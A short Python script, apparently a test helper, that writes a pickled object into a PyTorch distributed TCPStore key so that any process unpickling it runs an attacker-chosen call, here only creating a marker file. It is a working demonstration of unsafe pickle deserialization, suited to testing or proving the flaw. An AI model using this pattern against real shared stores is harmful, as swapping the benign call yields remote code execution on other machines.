"""Somebody else's program: writes a pickle over a key of a store.

    spoil.py KEY HOST PORT MARKER

Whoever loads it creates the file MARKER.
"""

from __future__ import annotations

import base64
import pickle
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import torch.distributed

key, host, port, marker = sys.argv[1:]


class Payload:
    """Creates the marker when it is unpickled."""

    def __reduce__(self) -> Any:
        """Tell pickle what to call."""
        return Path.touch, (Path(marker),)


store = vars(torch.distributed)["TCPStore"](
    host, int(port), is_master=False, timeout=timedelta(seconds=10)
)
store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
